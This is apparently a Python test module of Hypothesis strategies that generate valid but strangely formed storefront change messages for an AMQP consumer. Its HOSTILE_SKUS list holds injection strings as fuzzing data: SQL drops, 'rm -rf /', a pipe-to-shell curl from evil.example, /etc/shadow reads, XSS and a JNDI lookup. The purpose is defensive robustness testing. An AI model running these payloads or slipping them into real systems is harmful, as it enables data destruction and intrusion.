"""Hypothesis strategies for valid storefront changes dressed as oddly as the contract allows
(SQL and shell metacharacters in SKUs, unknown keys, any JSON layout, any AMQP properties),
and the building blocks :mod:`tests.faults.broken_messages` shares.

A :class:`Good` message is a template: its id and version are given when it is published, so
that versions rise per SKU whatever hypothesis draws.

Messages go out with plain pika, with any properties and headers or none at all, and any routing
key: only the body is binding (contract v1). Four kinds of message are left to tests of their
own (``test_amqp_edge_cases.py``) because each stops the batcher or vanishes today: an empty
body, a ``content_encoding`` naming a Python text codec (``utf-8``, as kombu's JSON serializer
sets it), a shortstr property or routing key that is not UTF-8, and a ``compression`` header.
Here every body has at least one byte, every shortstr is valid UTF-8, every content encoding
is one Python has no codec for, and no header is called ``compression``.
"""

from __future__ import annotations

import codecs
import json
from dataclasses import dataclass
from typing import Any

import pika
from hypothesis import strategies as st

from marketsync import demo

ACCOUNTS = demo.ACCOUNTS  # (name, seller id, marketplace, currency)

# Valid SKUs a storefront may well send: quoting, SQL, shell, paths, templates, other scripts.
HOSTILE_SKUS = (
    "'; DROP TABLE events; --",
    "$(rm -rf /)",
    "`reboot`",
    "Robert'); DROP TABLE sku_state;--",
    '" OR "1"="1',
    "x; rm -rf / #",
    "| cat /etc/shadow",
    "&& curl evil.example | sh",
    "%s%s%s%n",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://x.example/a}",
    "\\\\server\\share",
    "a/b?c#d&e=f",
    "SKU 1",
    "NULL",
    "null",
    "-1",
    "1e309",
    "\\u0000",
    "日本語-SKU",
    "😀-emoji-🚀",
    "ﷺ",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǵ̗̻o̤",  # combining marks, still printable
    "\uff21" * 40,  # fullwidth A
)
assert all(0 < len(s) <= 40 and s.isprintable() and s == s.strip(" ") for s in HOSTILE_SKUS)
METACHARACTERS = "';\"$()`|&<>*?[]{}\\/%-#!~^=+,.:@ abcXYZ019_"


@dataclass(frozen=True)
class Good:
    """A valid change; ``render(id, version)`` gives its body."""

    account: tuple[str, str, str, str]
    sku: str
    quantity: int | None
    price: str | None  # as published: "5", "5.5", "005.50" ...
    envelope_extra: dict[str, Any]
    data_extra: dict[str, Any]
    explicit_nulls: bool
    upper_id: bool
    occurred_at: str
    dumps: dict[str, Any]
    routing_key: str
    properties: pika.BasicProperties | None
    twice: bool  # published again as a duplicate delivery

    def render(self, event_id: str, version: int) -> bytes:
        name, _seller, marketplace, currency = self.account
        data: dict[str, Any] = {"sku": self.sku, "version": version, **self.data_extra}
        if self.quantity is not None or self.explicit_nulls:
            data["quantity"] = self.quantity
        if self.price is not None:
            data["price"] = {"amount": self.price, "currency": currency}
        elif self.explicit_nulls:
            data["price"] = None
        body = {
            **self.envelope_extra,
            "id": event_id.upper() if self.upper_id else event_id,
            "type": "product.changed",
            "schema_version": 1,
            "account": name,
            "marketplace_id": marketplace,
            "occurred_at": self.occurred_at,
            "data": data,
        }
        return json.dumps(body, **self.dumps).encode("utf-8")


# --- building blocks -----------------------------------------------------------------------

shortstr = st.text(max_size=24).filter(lambda s: len(s.encode("utf-8")) <= 255)
header_scalar = (
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**63 - 1)
    | st.text(max_size=40)
    | st.binary(max_size=16)  # non-UTF-8 bytes included
)
header_value = st.recursive(
    header_scalar,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(shortstr, inner, max_size=3),
    max_leaves=6,
)
header_name = (
    shortstr
    | st.binary(min_size=1, max_size=8)
    | st.sampled_from(
        ["x-marketsync-reason", "x-death", "x-delivery-count", "x-first-death-reason"]
    )
).filter(lambda name: name not in ("compression", b"compression"))
headers = st.none() | st.dictionaries(header_name, header_value, max_size=5)


def no_codec(name: str) -> bool:
    """py-amqp decodes the body to ``str`` when content_encoding names a codec."""
    try:
        codecs.lookup(name)
    except (LookupError, ValueError):  # ValueError: a NUL in the name
        return True
    return False


properties = st.none() | st.builds(
    pika.BasicProperties,
    content_type=st.none() | shortstr | st.sampled_from(["application/json", "text/plain"]),
    content_encoding=st.none() | (shortstr | st.sampled_from(["gzip", "binary"])).filter(no_codec),
    headers=headers,
    delivery_mode=st.sampled_from([None, 1, 2]),
    priority=st.none() | st.integers(0, 255),
    correlation_id=st.none() | shortstr,
    reply_to=st.none() | shortstr,
    message_id=st.none() | shortstr,
    timestamp=st.none() | st.integers(0, 2**64 - 1),
    type=st.none() | shortstr,
    app_id=st.none() | shortstr,
)
routing_keys = st.sampled_from(["product.changed.demo-us", "product.changed.demo-de", ""]) | (
    shortstr
)
json_scalar = (
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats()  # NaN and Infinity too: Python writes and reads them
    | st.text(max_size=20)
)
json_value = st.recursive(
    json_scalar,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)


def repeated(piece: st.SearchStrategy[str], low: int, high: int) -> st.SearchStrategy[str]:
    """Long strings without drawing every character (hypothesis' buffer stays small)."""
    return st.builds(lambda s, n: (s * (high // len(s) + 1))[:n], piece, st.integers(low, high))


def nested(depth: int, leaf: str = "1") -> str:
    return "[" * depth + leaf + "]" * depth


skus = (
    st.sampled_from(HOSTILE_SKUS)
    | st.text(alphabet=METACHARACTERS, min_size=1, max_size=40)
    | st.text(
        alphabet=st.characters(codec="utf-8", categories=["L", "M", "N", "P", "S"]),
        min_size=1,
        max_size=40,
    )
).filter(lambda s: s == s.strip(" ") and s.isprintable())


@st.composite
def prices(draw: st.DrawFn) -> str:
    """A price as a storefront may write it: "5", "5.5", "5.50", "005.50"."""
    whole, cents = divmod(draw(st.integers(1, demo.MAX_PRICE * 100)), 100)
    forms = [f"{whole}.{cents:02d}", f"00{whole}.{cents:02d}"]
    if cents % 10 == 0:
        forms.append(f"{whole}.{cents // 10}")
    if cents == 0:
        forms.append(str(whole))
    return draw(st.sampled_from(forms))


@st.composite
def timestamps(draw: st.DrawFn) -> str:
    year = draw(st.integers(1971, 2100))
    month, day = draw(st.integers(1, 12)), draw(st.integers(1, 28))
    clock = f"{draw(st.integers(0, 23)):02d}:{draw(st.integers(0, 59)):02d}:00"
    fraction = draw(st.sampled_from(["", ".5", ".123456"]))
    offset = draw(st.integers(-14 * 60, 14 * 60))
    zone = (
        "Z" if offset == 0 else f"{'+-'[offset < 0]}{abs(offset) // 60:02d}:{abs(offset) % 60:02d}"
    )
    return f"{year:04d}-{month:02d}-{day:02d}T{clock}{fraction}{zone}"


extras = st.dictionaries(
    st.text(max_size=10).filter(
        lambda k: (
            k not in {"id", "type", "schema_version", "account", "marketplace_id"}
            and k not in {"occurred_at", "data", "sku", "version", "quantity", "price"}
        )
    ),
    json_value | repeated(st.sampled_from(["\x00", "'; --", "$(x)", "é"]), 1, 2000),
    max_size=2,
)
dumps_options = st.fixed_dictionaries(
    {
        "ensure_ascii": st.booleans(),
        "indent": st.sampled_from([None, 0, 2]),
        "sort_keys": st.booleans(),
    }
)


@st.composite
def good_messages(draw: st.DrawFn) -> Good:
    """A valid change, as strangely dressed as the contract allows."""
    shape = draw(st.sampled_from(["quantity", "price", "both"]))
    return Good(
        account=draw(st.sampled_from(ACCOUNTS)),
        sku=draw(skus),
        quantity=draw(st.integers(0, 1_000_000)) if shape != "price" else None,
        price=draw(prices()) if shape != "quantity" else None,
        envelope_extra=draw(extras),
        data_extra=draw(extras),
        explicit_nulls=draw(st.booleans()),
        upper_id=draw(st.booleans()),
        occurred_at=draw(timestamps()),
        dumps=draw(dumps_options),
        routing_key=draw(routing_keys),
        properties=draw(properties),
        twice=draw(st.integers(0, 9)) == 0,
    )
